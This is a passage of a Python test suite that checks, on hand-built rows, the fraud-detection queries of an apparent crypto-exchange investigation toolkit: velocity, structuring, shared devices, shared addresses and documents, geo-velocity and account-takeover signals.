"""Each playbook query on rows made by hand, with the answer worked out by hand."""

import dataclasses
import json
import math
import re
import unicodedata
from contextlib import closing
from datetime import date, timedelta

import duckdb
import pytest

from tools.call import call_tool
from tools.catalogue import load_catalogue
from tools.errors import ToolError, WarehouseError
from tools.evidence import Unavailable
from tools.playbook import FOLDER, load_playbook
from tools.playbook.columns import columns_read, words_compared
from tools.registry import all_tools
from tools.warehouse import Warehouse
from tools.words import REMEDY, REMEDY_OF_NUMBERS


def test_account_age_counts_whole_days(exchange, ask):
    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=10, hours=23)
    assert ask("account_age").facts == {"account.age_days": 10, "account.kyc_level": 2}


def test_the_timeline_is_in_order_and_ends_with_the_flag(exchange, ask):
    exchange.login(exchange.ago(days=3), "D7", city="Rome", country="ITA")
    exchange.login(exchange.ago(days=2), "D7")
    exchange.deposit(exchange.ago(days=4), 50.0)
    exchange.withdraw(exchange.ago(hours=1), 20.0, status="held")
    exchange.add("account_events", customer_id="C1", at=exchange.ago(hours=2), kind="password_reset")
    exchange.deposit(exchange.ago(hours=-1), 1.0)
    exchange.deposit(exchange.ago(days=91), 1.0)
    (timeline,) = ask("account_age").exhibits
    events = json.loads(timeline.content)
    assert timeline.kind == "timeline"
    assert [event["what"] for event in events] == [
        "deposit by bank",
        "first login on device D7",
        "password reset",
        "withdrawal by chain, held",
    ]
    assert events[0] == {"at": "2026-05-28T12:00:00Z", "what": "deposit by bank", "amount": 50.0}
    assert events[1]["place"] == "Rome, ITA"


def test_an_event_of_which_little_is_recorded_is_still_told(exchange, ask):
    exchange.login(exchange.ago(days=6), None, city=None, country="ITA")
    exchange.deposit(exchange.ago(days=5), 1.0, method=None)
    exchange.withdraw(exchange.ago(days=4), 1.0, method=None, status=None)
    exchange.add("account_events", customer_id="C1", at=exchange.ago(days=3), kind=None)
    exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=2), document_type=None)
    exchange.add("p2p_orders", buyer_id="C1", at=exchange.ago(days=1), payment_method=None, dispute_opened_at=None)
    (timeline,) = ask("account_age").exhibits
    events = json.loads(timeline.content)
    assert [event["what"] for event in events] == [
        "first login on an unknown device",
        "deposit by unknown means",
        "withdrawal by unknown means, unknown status",
        "unknown event",
        "identity submission: unknown document",
        "p2p purchase, unknown payment",
    ]
    assert events[0]["place"] == "ITA"


@pytest.mark.parametrize(
    ("stem", "fact"),
    [
        ("velocity", "activity.withdrawn_usd_24h"),
        ("exposure", "exposure.volume_usd_30d"),
        ("in_out_latency", "flow.in_out_hours"),
        ("new_device_withdrawal", "takeover.withdrawn_share"),
        ("counterparty_risk", "counterparty.risky_usd"),
    ],
)
def test_a_withdrawal_without_a_status_is_not_cancelled(exchange, ask, stem, fact):
    exchange.deposit(exchange.ago(hours=9), 100.0)
    exchange.add("chain_addresses", chain_address="mixer", risk_score=0.9, category="mixer")
    exchange.withdraw(exchange.ago(hours=2), 30.0, chain_address="mixer", status="completed")
    told = ask(stem).facts
    exchange.rows["withdrawals"][-1]["status"] = None
    assert ask(stem).facts == told
    assert told[fact] > 0


def test_velocity_counts_a_day_and_leaves_cancelled_withdrawals_out(exchange, ask):
    exchange.deposit(exchange.ago(hours=1), 100.0)
    exchange.deposit(exchange.ago(hours=23.9), 50.0)
    exchange.deposit(exchange.ago(hours=24), 1.0)
    exchange.withdraw(exchange.ago(hours=2), 30.0)
    exchange.withdraw(exchange.ago(hours=2), 5.0, status="held")
    exchange.withdraw(exchange.ago(hours=2), 7.0, status="cancelled")
    assert ask("velocity").facts == {
        "activity.deposits_24h": 2,
        "activity.withdrawals_24h": 2,
        "activity.deposited_usd_24h": 150.0,
        "activity.withdrawn_usd_24h": 35.0,
    }


def test_in_out_latency_is_the_median_wait_and_the_share_that_left_within_a_day(exchange, ask):
    exchange.deposit(exchange.ago(days=10), 100.0)
    exchange.withdraw(exchange.ago(days=10, hours=-2), 60.0)
    exchange.deposit(exchange.ago(days=5), 100.0)
    exchange.withdraw(exchange.ago(days=5, hours=-4), 100.0)
    exchange.deposit(exchange.ago(days=4), 200.0)
    exchange.withdraw(exchange.ago(days=1), 10.0)
    facts = ask("in_out_latency").facts
    assert facts["flow.in_out_hours"] == pytest.approx(4.0)
    assert facts["flow.passthrough_share"] == pytest.approx(160 / 400)
    assert (facts["flow.deposits"], facts["flow.withdrawn_share"]) == (3, pytest.approx(170 / 400))


def test_small_deposits_do_not_move_the_median_wait(exchange, ask):
    exchange.deposit(exchange.ago(days=5), 7_000.0)
    exchange.withdraw(exchange.ago(days=5, hours=-1), 6_900.0)
    for minutes in (1, 2, 3):
        exchange.deposit(exchange.ago(days=4, minutes=minutes), 1.0)
    exchange.withdraw(exchange.ago(hours=2), 1.0)
    assert ask("in_out_latency").facts["flow.in_out_hours"] == pytest.approx(1.0)


def test_money_that_left_after_a_day_has_not_stayed(exchange, ask):
    exchange.deposit(exchange.ago(days=5), 100.0)
    exchange.deposit(exchange.ago(days=40), 100.0)
    exchange.withdraw(exchange.ago(days=5, hours=-24.1), 90.0)
    facts = ask("in_out_latency").facts
    assert (facts["flow.passthrough_share"], facts["flow.withdrawn_share"]) == (0.0, pytest.approx(0.9))


@pytest.mark.parametrize("usd", [None, 0.0])
def test_of_no_deposits_no_share_is_withdrawn(exchange, ask, usd):
    exchange.withdraw(exchange.ago(days=5), 9_900.0)
    exchange.deposit(exchange.ago(days=6), usd) if usd is not None else None
    found = ask("in_out_latency")
    assert "flow.withdrawn_share" not in found.facts
    assert found.facts["flow.deposits"] == 0
    assert "flow.withdrawn_share: nothing was deposited in the last 30 days" in found.notes


def test_one_withdrawal_after_two_deposits_is_not_counted_twice(exchange, ask):
    exchange.deposit(exchange.ago(hours=5), 100.0)
    exchange.deposit(exchange.ago(hours=4), 100.0)
    exchange.withdraw(exchange.ago(hours=3), 100.0)
    assert ask("in_out_latency").facts["flow.passthrough_share"] == pytest.approx(0.5)


def test_without_a_withdrawal_there_is_no_wait_and_a_note_says_so(exchange, ask):
    exchange.deposit(exchange.ago(days=1), 100.0)
    found = ask("in_out_latency")
    assert found.facts == {
        "flow.deposits_followed": 0,
        "flow.passthrough_share": 0.0,
        "flow.deposits": 1,
        "flow.withdrawn_share": 0.0,
    }
    assert found.notes == ("flow.in_out_hours: no deposit of the last 30 days was followed by a withdrawal",)


def test_money_that_leaves_at_the_moment_it_came_has_left(exchange, ask):
    """Where only days are recorded, whatever happens on one day happens at one moment."""
    exchange.deposit(exchange.ago(days=3), 100.0)
    exchange.withdraw(exchange.ago(days=3), 100.0)
    assert ask("in_out_latency").facts == {
        "flow.in_out_hours": 0.0,
        "flow.deposits_followed": 1,
        "flow.passthrough_share": 1.0,
        "flow.deposits": 1,
        "flow.withdrawn_share": 1.0,
    }


def test_structuring_counts_deposits_from_80_percent_up_to_the_limit(exchange, ask):
    for usd in (7_999.0, 8_000.0, 9_999.0, 10_000.0):
        exchange.deposit(exchange.ago(days=3), usd)
    assert ask("structuring").facts == {"flow.near_limit_deposits": 2, "flow.near_limit_share": 0.5}
    assert ask("structuring", limit_usd=8_000.0).facts["flow.near_limit_deposits"] == 1


def test_dormant_burst_measures_the_longest_silence_and_the_last_week(exchange, ask):
    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=7 + 70)
    exchange.deposit(exchange.ago(days=70), 100.0)
    exchange.deposit(exchange.ago(days=20), 900.0)
    exchange.deposit(exchange.ago(days=1), 1_000.0)
    facts = ask("dormant_burst").facts
    assert facts["activity.dormant_days"] == 50
    assert facts["activity.burst_ratio"] == pytest.approx(1_000 / (1_000 / 10))


def test_an_account_that_never_moved_slept_since_it_was_opened(exchange, ask):
    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=107)
    assert ask("dormant_burst").facts == {"activity.dormant_days": 100, "activity.burst_ratio": 0.0}
    exchange.deposit(exchange.ago(days=1), 5_000.0)
    found = ask("dormant_burst")
    assert found.facts == {"activity.dormant_days": 100}
    assert found.notes[0].startswith("activity.burst_ratio: ")


def test_peer_group_is_a_robust_z_among_the_same_country_and_level(exchange, ask):
    for number, usd in enumerate((10, 20, 30, 40, 50, 60, 70, 80, 90)):
        exchange.customer(f"P{number}")
        exchange.deposit(exchange.ago(days=2), float(usd), who=f"P{number}")
    exchange.customer("elsewhere", residence_country="FRA")
    exchange.customer("other level", kyc_level=1)
    exchange.customer("later", created_at=exchange.ago(days=-1))
    exchange.deposit(exchange.ago(days=2), 250.0)
    facts = ask("peer_group").facts
    assert facts["peers.size"] == 9
    assert facts["peers.volume_z"] == pytest.approx((250 - 50) / (1.4826 * 20))


def test_few_peers_cannot_be_compared_with(exchange, ask):
    exchange.customer("P0")
    found = ask("peer_group")
    assert found.facts == {"peers.size": 1}
    assert "too few peers" in found.notes[0]


@pytest.mark.parametrize(("usd", "z"), [(0.0, 0.0), (50_000.0, None)])
def test_among_peers_that_stand_still_whoever_does_not_cannot_be_compared(exchange, ask, usd, z):
    for number in range(9):
        exchange.customer(f"P{number}")
    exchange.deposit(exchange.ago(days=2), usd)
    assert ask("peer_group").facts.get("peers.volume_z") == z


@pytest.mark.parametrize("lacking", [{"residence_country": None}, {"residence_country": " "}, {"kyc_level": None}])
def test_who_the_peers_are_is_unknown_where_country_or_level_is(exchange, ask, lacking):
    exchange.customer("P0", **lacking)
    exchange.rows["customers"][1].update(lacking)
    assert ask("peer_group").facts == {}


def test_shared_devices_tells_households_and_known_fraud_apart(exchange, ask):
    exchange.add("devices", device_id="D1", is_emulator=True)
    exchange.login(exchange.ago(days=9), "D1")
    for name, home in (("mother", "home C1"), ("mule", "elsewhere"), ("guesser", "x")):
        exchange.customer(name, residence_address=f" {home.upper()} ")
        exchange.login(exchange.ago(days=8), "D1", who=name, success=name != "guesser")
    exchange.add("earlier_cases", customer_id="mule", opened_at=exchange.ago(days=30), outcome="confirmed_fraud")
    found = ask("shared_devices")
    assert found.facts == {
        "device.accounts_sharing": 2,
        "device.household_share": 0.5,
        "device.emulator": True,
        "device.confirmed_fraud_sharing": 1,
    }
    graph = json.loads(found.exhibits[0].content)
    assert {node["label"] for node in graph["nodes"]} == {"C1", "mother", "mule", "d1"}
    assert ["customer:C1", "emulator:d1", "logged in on"] in graph["edges"]


def test_an_undescribed_device_may_be_an_emulator(exchange, ask):
    exchange.login(exchange.ago(days=1), "unlisted")
    found = ask("shared_devices")
    assert "device.emulator" not in found.facts
    assert [note.partition(":")[0] for note in found.notes] == ["device.emulator"]
    exchange.add("devices", device_id="phone", is_emulator=False)
    exchange.login(exchange.ago(days=2), "phone")
    assert "device.emulator" not in ask("shared_devices").facts
    exchange.add("devices", device_id="farm", is_emulator=True)
    exchange.login(exchange.ago(days=3), "farm")
    assert ask("shared_devices").facts["device.emulator"] is True


@pytest.mark.parametrize("home", ["", "  ", None, "-", "N/A", "n.a.", "Berlin", "\u200b"])
def test_two_unknown_homes_are_no_household(exchange, ask, home):
    exchange.rows["customers"][-1]["residence_address"] = home
    exchange.customer("mule", residence_address=home)
    for who in ("C1", "mule"):
        exchange.login(exchange.ago(days=1), "D1", who=who)
    facts = ask("shared_devices").facts
    assert (facts["device.accounts_sharing"], facts["device.household_share"]) == (1, 0.0)


@pytest.mark.parametrize(
    ("mine", "theirs", "share"),
    [
        ("12 Main Street, Flat 3", "12, MAIN ST. 3", 1),
        ("Lindenstraße 132", "Lindenstrasse\u00a0132", 1),
        ("٣ شارع التحرير", "3 شارع التحرير", 1),
        ("Main Street 12", "Main Street 13", 0),
        ("Main Street 12", "Mill Street 12", 0),
    ],
)
def test_a_home_is_the_same_however_it_is_written(exchange, ask, mine, theirs, share):
    exchange.rows["customers"][-1]["residence_address"] = mine
    exchange.customer("sister", residence_address=theirs)
    for who in ("C1", "sister"):
        exchange.login(exchange.ago(days=1), "D1", who=who)
    assert ask("shared_devices").facts["device.household_share"] == share


@pytest.mark.parametrize("theirs", ["{8F3A-22BC}", "8f3a-22bc", " 8F3A-22bc\u200b"])
def test_a_device_is_the_same_however_its_id_is_written(exchange, ask, theirs):
    exchange.add("devices", device_id=theirs.upper(), is_emulator=True)
    exchange.login(exchange.ago(days=1), "8F3A-22BC")
    exchange.login(exchange.ago(days=1), theirs, who="mule")
    found = ask("shared_devices")
    assert found.facts["device.accounts_sharing"] == 1
    assert found.facts["device.emulator"] is True
    assert ["customer:mule", "emulator:8f3a-22bc", "logged in on"] in json.loads(found.exhibits[0].content)["edges"]


@pytest.mark.parametrize("device", [None, " ", "unknown", "N/A", "{00000000-0000-0000-0000-000000000000}"])
def test_a_login_that_names_no_device_may_share_one(exchange, ask, device):
    exchange.login(exchange.ago(days=1), device)
    exchange.login(exchange.ago(days=1), device, who="stranger")
    assert ask("shared_devices").facts == {}
    exchange.add("devices", device_id="D1", is_emulator=False)
    for who in ("C1", "mule", "other mule"):
        exchange.login(exchange.ago(days=1), "D1", who=who)
    for number in range(4):
        exchange.login(exchange.ago(days=1), "D1", who=f"mule {number}")
    assert ask("shared_devices").facts == {}, "a cluster may stand behind the few that are seen"
    exchange.login(exchange.ago(days=1), "D1", who="last mule")
    assert ask("shared_devices").facts == {"device.accounts_sharing": 7}
    exchange.customer("mother", residence_address="home C1")
    exchange.login(exchange.ago(days=1), "D1", who="mother")
    exchange.add("earlier_cases", customer_id="mule", opened_at=exchange.ago(days=3), outcome="confirmed_fraud")
    assert ask("shared_devices").facts == {"device.accounts_sharing": 8, "device.confirmed_fraud_sharing": 1}


OUTCOMES = ((None, None), ("", None), ("pending", None), (" False_Positive", 0), ("Confirmed_fraud ", 1))


@pytest.mark.parametrize(("outcome", "guilty"), OUTCOMES)
@pytest.mark.parametrize(("stem", "about"), [("shared_devices", "device"), ("shared_addresses", "address")])
def test_a_case_of_another_without_an_outcome_may_be_fraud(exchange, ask, stem, about, outcome, guilty):
    for who in ("C1", "friend"):
        exchange.login(exchange.ago(days=1), "D1", who=who)
        exchange.withdraw(exchange.ago(days=1), 5.0, who=who, chain_address="wallet")
    exchange.add("earlier_cases", customer_id="friend", opened_at=exchange.ago(days=3), outcome=outcome)
    told = ask(stem).facts
    assert told[f"{about}.accounts_sharing"] == 1
    assert told.get(f"{about}.confirmed_fraud_sharing") == guilty


@pytest.mark.parametrize(("outcome", "guilty"), OUTCOMES[2:])
def test_an_earlier_case_that_ended_in_no_known_word_may_be_fraud(exchange, ask, outcome, guilty):
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=3), outcome=outcome)
    assert ask("earlier_cases").facts.get("earlier.confirmed_fraud") == guilty
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=9), outcome="confirmed_fraud")
    assert ask("earlier_cases").facts["earlier.confirmed_fraud"] == 1 + (guilty or 0)


def test_blanks_around_an_address_are_no_other_address(exchange, ask):
    exchange.withdraw(exchange.ago(days=1), 5.0, chain_address="wallet")
    exchange.withdraw(exchange.ago(days=1), 5.0, who="friend", chain_address=" wallet ")
    found = ask("shared_addresses")
    assert found.facts["address.accounts_sharing"] == 1
    assert "friend" in found.exhibits[0].model_dump_json()


@pytest.mark.parametrize("address", [None, "", "n/a", "0x" + "0" * 40])
def test_a_withdrawal_without_an_address_may_share_one(exchange, ask, address):
    exchange.withdraw(exchange.ago(days=2), 10.0, who="friend", chain_address=address)
    exchange.withdraw(exchange.ago(days=2), 10.0, chain_address=address, method="bank")
    assert set(ask("shared_addresses").facts.values()) == {0}
    exchange.withdraw(exchange.ago(days=2), 10.0, chain_address=address)
    for friends, told in enumerate([{}, {}, {"address.accounts_sharing": 2}]):
        exchange.withdraw(exchange.ago(days=2), 10.0, who=f"friend {friends}" if friends else "C1", chain_address="w")
        assert ask("shared_addresses").facts == told


def test_shared_addresses_leaves_exchanges_out(exchange, ask):
    exchange.add("chain_addresses", chain_address="wallet", category="self_hosted")
    exchange.add("chain_addresses", chain_address="desk", category="exchange")
    for address in ("wallet", "desk", "unlisted"):
        exchange.withdraw(exchange.ago(days=2), 10.0, chain_address=address)
        exchange.withdraw(exchange.ago(days=2), 10.0, who=f"friend of {address}", chain_address=address)
    exchange.add(
        "earlier_cases", customer_id="friend of wallet", opened_at=exchange.ago(days=3), outcome="confirmed_fraud"
    )
    found = ask("shared_addresses")
    assert found.facts == {"address.accounts_sharing": 2, "address.confirmed_fraud_sharing": 1}
    labels = {node["label"] for node in json.loads(found.exhibits[0].content)["nodes"]}
    assert labels == {"C1", "wallet", "unlisted", "friend of wallet", "friend of unlisted"}


@pytest.mark.parametrize(
    ("kinds", "accounts", "shared"),
    [
        (["defi"], 2, 0),
        ([" Exchange"], 2, 0),
        (["defi", "scam"], 2, 1),
        ([], 50, 49),
        ([], 51, 0),
        (["mixer"], 51, 0),
        (["self_hosted"], 51, 50),
    ],
)
def test_who_else_uses_a_service_is_a_stranger(exchange, ask, kinds, accounts, shared):
    for kind in kinds:
        exchange.add("chain_addresses", chain_address="shop", category=kind)
    for number in range(accounts):
        who = f"U{number}" if number else "C1"
        exchange.withdraw(exchange.ago(days=2), 10.0, who=who, chain_address="shop")
    exchange.withdraw(exchange.ago(days=-1), 10.0, who="later", chain_address="shop")
    exchange.add("earlier_cases", customer_id="U1", opened_at=exchange.ago(days=3), outcome="confirmed_fraud")
    found = ask("shared_addresses")
    assert found.facts == {"address.accounts_sharing": shared, "address.confirmed_fraud_sharing": min(shared, 1)}
    assert len(found.exhibits) == bool(shared)


def test_shared_documents_by_number_and_by_picture(exchange, ask):
    mine = 0xF0F0_F0F0
    usual = {"submitted_at": exchange.ago(days=1), "document_country": "UTO"}
    exchange.add("kyc_submissions", customer_id="C1", document_number="ab-12 34", image_hash=mine, **usual)
    exchange.add("kyc_submissions", customer_id="twin", document_number="AB1234", image_hash=(1 << 64) - 1, **usual)
    exchange.add("kyc_submissions", customer_id="near", document_number="N1", image_hash=mine ^ 0b111_111, **usual)
    exchange.add("kyc_submissions", customer_id="far", document_number="N2", image_hash=mine ^ 0b1_111_111, **usual)
    found = ask("shared_documents")
    assert found.facts == {
        "document.accounts_sharing_number": 1,
        "document.accounts_sharing_number_abroad": 0,
        "document.accounts_sharing_template": 1,
    }
    edges = json.loads(found.exhibits[0].content)["edges"]
    assert [edge[2] for edge in edges] == ["same document picture", "same document number"]
    assert {edge[0] for edge in edges} == {"customer:C1"}, "the page draws the ring around the first node"


def test_without_a_submission_documents_cannot_be_compared(ask):
    found = ask("shared_documents")
    assert found.facts == {}
    assert len(found.notes) == 3


def test_one_submission_does_not_speak_for_another(exchange, ask):
    """What is found of the others is told; where nothing is found, what could not be looked for may be there."""
    whole = {"document_number": "AB1", "document_country": "UTO", "image_hash": 0xF0F0_F0F0, "portrait_hash": 0x0F}
    blank = {"document_number": "--", "document_country": "UTO", "image_hash": None, "portrait_hash": None}
    for cells in (whole, blank):
        exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=2), **cells)
    assert ask("shared_documents").facts == ask("shared_portraits").facts == {}
    for number in range(3):
        told = ask("shared_documents").facts | ask("shared_portraits").facts
        assert not {"document.accounts_sharing_template", "document.accounts_sharing_number_abroad"} & set(told)
        assert set(told.values()) <= {number}
        exchange.add("kyc_submissions", customer_id=f"twin {number}", submitted_at=exchange.ago(days=2), **whole)
    told = ask("shared_documents").facts | ask("shared_portraits").facts
    assert (len(told), set(told.values())) == (3, {3})


ANOTHER = {"declared_name": "Ann Other", "declared_birth_date": date(1980, 1, 1)}
"""Who shares neither name nor birth date with those that the exchange adds without."""


@pytest.mark.parametrize(("mine", "theirs"), [(None, "UTO"), ("", "UTO"), ("UTO", None), ("UTO", "ABW")])
def test_a_number_of_no_known_country_may_be_the_same_document(exchange, ask, mine, theirs):
    usual = {"submitted_at": exchange.ago(days=1), "document_number": "AB1", "image_hash": 0xF0F0}
    exchange.add("kyc_submissions", customer_id="C1", document_country=mine, **usual)
    assert ask("shared_documents").facts["document.accounts_sharing_number"] == 0
    exchange.add("kyc_submissions", customer_id="twin", document_country=theirs, **usual | ANOTHER)
    told = ask("shared_documents").facts.get("document.accounts_sharing_number")
    assert told == (0 if mine and theirs else None)


@pytest.mark.parametrize(
    ("mine", "theirs", "shared"),
    [
        ("K1O045I7", "kl0045-17", 0),
        ("K1O045I7", "k10045-17", 1),
        ("Ｋ１２３４０", "K12340", 1),
        ("K12340", "K١٢٣٤٠", 1),
        ("АК123450", "AK123450", 1),
        ("ЖК123450", "123450", None),
        ("ЖК123450", "ЖК 123450", 1),
        ("N/A", "N/A", None),
        ("unknown", "unknown", None),
        ("000000", "000000", None),
        ("XXXX", "XXXX", None),
        ("123456789", "123456789", None),
        ("１２３４５６７", "１２３４５６７", None),
        ("1234560", "1234560", 1),
    ],
)
def test_a_document_number_is_the_same_however_its_signs_are_written(exchange, ask, mine, theirs, shared):
    usual = {"submitted_at": exchange.ago(days=1), "document_country": "UTO"}
    exchange.add("kyc_submissions", customer_id="C1", document_number=mine, **usual)
    exchange.add("kyc_submissions", customer_id="other", document_number=theirs, **usual)
    assert ask("shared_documents").facts.get("document.accounts_sharing_number") == shared


NAMESAKE = {"declared_name": "Anna-Maria O'Example"}


@pytest.mark.parametrize(
    ("number", "other", "shared", "abroad"),
    [
        ("K12345670", ANOTHER, 0, 1),
        ("K1234567", ANOTHER, 0, 0),
        ("K1234567", ANOTHER | NAMESAKE, 1, 0),
        ("K1234567", {"declared_name": "Ann Other"}, 1, 0),
        ("K12345670", ANOTHER | {"declared_birth_date": None}, None, None),
        ("K12345670", ANOTHER | {"declared_name": " "}, None, None),
    ],
)
def test_a_number_of_two_countries_is_one_document_in_one_name_and_else_may_be_chance(
    exchange, ask, number, other, shared, abroad
):
    usual = {"submitted_at": exchange.ago(days=1), "document_number": number}
    exchange.add(
        "kyc_submissions", customer_id="C1", document_country="DEU", **usual, declared_name="ANNA MARIA OEXAMPLE"
    )
    exchange.add("kyc_submissions", customer_id="other", document_country="AUT", **usual | other)
    found = ask("shared_documents")
    assert found.facts.get("document.accounts_sharing_number") == shared
    assert found.facts.get("document.accounts_sharing_number_abroad") == abroad
    exchange.add("kyc_submissions", customer_id="third", document_country="AUT", **usual | ANOTHER)
    assert ask("shared_documents").facts.get("document.accounts_sharing_number_abroad") == (
        (abroad or 0) + 1 if len(number) == 9 else abroad
    )


def test_a_picture_whose_hash_is_nought_is_nobodys(exchange, ask):
    nought = {"submitted_at": exchange.ago(days=1), "image_hash": 0, "portrait_hash": 0}
    for who in ("C1", "other"):
        exchange.add("kyc_submissions", customer_id=who, **nought)
    told = ask("shared_documents").facts | ask("shared_portraits").facts
    assert not {"document.accounts_sharing_template", "document.accounts_sharing_portrait"} & set(told)


def test_a_false_positive_of_long_ago_no_longer_clears(exchange, ask):
    for days in (10, 729, 731):
        exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=days), outcome="false_positive")
    facts = {"earlier.confirmed_fraud": 0, "earlier.false_positive": 2, "earlier.total": 3}
    assert ask("earlier_cases").facts == facts
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=900), outcome="pending")
    assert ask("earlier_cases").facts == {"earlier.false_positive": 2, "earlier.total": 4}


def test_shared_portraits_by_hash(exchange, ask):
    mine = 0b1111_0000
    usual = {"submitted_at": exchange.ago(days=1)}
    exchange.add("kyc_submissions", customer_id="C1", portrait_hash=mine, **usual)
    exchange.add("kyc_submissions", customer_id="near", portrait_hash=mine ^ 0b111_111, **usual)
    exchange.add("kyc_submissions", customer_id="far", portrait_hash=mine ^ 0b1_111_111_0000, **usual)
    exchange.add("kyc_submissions", customer_id="bare", portrait_hash=None, **usual)
    exchange.add("kyc_submissions", customer_id="later", portrait_hash=mine, submitted_at=exchange.ago(days=-1))
    found = ask("shared_portraits")
    assert found.facts == {"document.accounts_sharing_portrait": 1}
    graph = json.loads(found.exhibits[0].content)
    assert graph["edges"] == [["customer:C1", "customer:near", "same portrait on the document"]]
    assert graph["nodes"][0]["label"] == "C1"
    assert ask("shared_portraits", distance=7).facts == {"document.accounts_sharing_portrait": 2}


def test_without_the_hash_of_a_portrait_none_can_be_found_again(exchange, ask):
    exchange.add("kyc_submissions", customer_id="C1", portrait_hash=None, submitted_at=exchange.ago(days=1))
    found = ask("shared_portraits")
    assert (found.facts, len(found.notes)) == ({}, 1)


def test_geo_velocity_takes_the_fastest_hop_and_ignores_short_ones(exchange, ask):
    exchange.login(exchange.ago(hours=20), latitude=0.0, longitude=0.0, country="DEU")
    exchange.login(exchange.ago(hours=19), latitude=0.0, longitude=0.5, country="DEU")
    exchange.login(exchange.ago(hours=17), latitude=0.0, longitude=10.5, country="FRA")
    exchange.login(exchange.ago(hours=16), latitude=50.0, longitude=10.5, country="ITA", success=False)
    facts = ask("geo_velocity").facts
    assert facts["login.max_speed_kmh"] == pytest.approx(10 * 6371 * 3.14159265 / 180 / 2, rel=1e-4)
    assert facts["login.countries_24h"] == 2
    assert facts["login.failed_24h"] == 1


def test_two_places_at_once_are_very_fast_and_never_infinite(exchange, ask):
    exchange.login(exchange.ago(hours=2), latitude=0.0, longitude=0.0)
    exchange.login(exchange.ago(hours=2), latitude=0.0, longitude=90.0)
    assert 100_000 < ask("geo_velocity").facts["login.max_speed_kmh"] < 1_000_000


@pytest.mark.parametrize(("away", "told"), [(9.0, None), (40.0, pytest.approx(30 * 111.19, rel=1e-3))])
def test_a_login_without_a_place_leaves_speed_unknown_unless_what_is_seen_is_too_fast(exchange, ask, away, told):
    exchange.login(exchange.ago(hours=9), latitude=0.0, longitude=10.0)
    exchange.login(exchange.ago(hours=8.5), latitude=0.0, longitude=None)
    exchange.login(exchange.ago(hours=8), latitude=0.0, longitude=away)
    assert ask("geo_velocity").facts.get("login.max_speed_kmh") == told


@pytest.mark.parametrize("country", [None, ""])
def test_countries_cannot_be_counted_where_one_is_not_recorded(exchange, ask, country):
    exchange.login(exchange.ago(days=8), country=country)
    exchange.login(exchange.ago(hours=2), country="DEU")
    assert ask("geo_velocity").facts["login.countries_24h"] == 1
    exchange.login(exchange.ago(hours=1), country=country)
    assert "login.countries_24h" not in ask("geo_velocity").facts


@pytest.mark.parametrize(("logins", "known"), [(0, True), (1, True), (2, False)])
def test_speed_is_unknown_only_where_travel_could_not_be_seen(exchange, ask, logins, known):
    for hours in range(logins):
        exchange.login(exchange.ago(hours=hours), latitude=None, longitude=None)
    assert ("login.max_speed_kmh" in ask("geo_velocity").facts) is known


def test_a_takeover_shows_in_device_reset_address_and_share(exchange, ask):
    exchange.deposit(exchange.ago(days=100), 1_000.0)
    exchange.withdraw(exchange.ago(days=50), 200.0, chain_address="old wallet")
    exchange.login(exchange.ago(days=100), "phone")
    exchange.login(exchange.ago(hours=5), "stranger's")
    exchange.add("account_events", customer_id="C1", at=exchange.ago(hours=6), kind="second_factor_reset")
    exchange.withdraw(exchange.ago(hours=3), 600.0, chain_address="new wallet", device_id="stranger's")
    assert ask("new_device_withdrawal").facts == {
        "takeover.hours_from_new_device": pytest.approx(2.0),
        "takeover.new_device_withdrawals": 1,
        "takeover.reset_before_withdrawal": True,
        "takeover.new_address": True,
        "takeover.withdrawn_share": pytest.approx(0.75),
        "takeover.untraced_share": 0.0,
    }


def test_an_ordinary_withdrawal_is_no_takeover(exchange, ask):
    exchange.deposit(exchange.ago(days=100), 1_000.0)
    exchange.login(exchange.ago(days=100), "phone")
    exchange.login(exchange.ago(hours=5), "tablet")
    exchange.withdraw(exchange.ago(days=50), 100.0, chain_address="wallet")
    exchange.withdraw(exchange.ago(hours=3), 90.0, chain_address="wallet", device_id="phone")
    exchange.add("account_events", customer_id="C1", at=exchange.ago(hours=1), kind="password_reset")
    found = ask("new_device_withdrawal")
    assert found.facts == {
        "takeover.new_device_withdrawals": 0,
        "takeover.reset_before_withdrawal": False,
        "takeover.new_address": False,
        "takeover.withdrawn_share": pytest.approx(0.1),
        "takeover.untraced_share": 0.0,
    }


@pytest.mark.parametrize("method", ["bank", "card", "p2p", "chain"])
def test_money_that_goes_to_no_chain_address_goes_where_no_record_tells(exchange, ask, method):
    exchange.deposit(exchange.ago(days=100), 1_000.0)
    exchange.withdraw(exchange.ago(days=50), 200.0, chain_address="wallet")
    exchange.withdraw(exchange.ago(days=1), 200.0, chain_address="wallet")
    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 0.0
    exchange.withdraw(exchange.ago(hours=5), 400.0, method=method, chain_address=None)
    facts = ask("new_device_withdrawal").facts
    assert facts["takeover.untraced_share"] == pytest.approx(0.5)
    assert facts["takeover.withdrawn_share"] == pytest.approx(0.75)


def test_of_an_empty_account_whatever_left_untraced_is_all(exchange, ask):
    exchange.withdraw(exchange.ago(hours=5), 5.0, chain_address="wallet")
    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 0.0
    exchange.withdraw(exchange.ago(hours=4), 5.0, method="bank")
    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 1.0


@pytest.mark.parametrize(
    ("days", "usd", "new"), [(29, 5.0, True), (31, 5.0, False), (8, 99.0, True), (8, 100.0, False), (6, 900.0, True)]
)
def test_an_address_is_not_used_before_for_a_small_sum_of_late(exchange, ask, days, usd, new):
    exchange.deposit(exchange.ago(days=100), 9_000.0)
    exchange.withdraw(exchange.ago(days=days), usd, chain_address="wallet")
    for hours in (1, 2):
        exchange.withdraw(exchange.ago(hours=hours), 500.0, chain_address="wallet")
    assert ask("new_device_withdrawal").facts["takeover.new_address"] is new


def _new_device(ask):
    """The hours, and how many withdrawals; None where that cannot be told."""
    facts = ask("new_device_withdrawal").facts
    return facts.get("takeover.hours_from_new_device"), facts.get("takeover.new_device_withdrawals")


@pytest.mark.parametrize("used", ["phone", None, " "])
def test_the_first_device_of_an_account_is_not_new(exchange, ask, used):
    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=3)
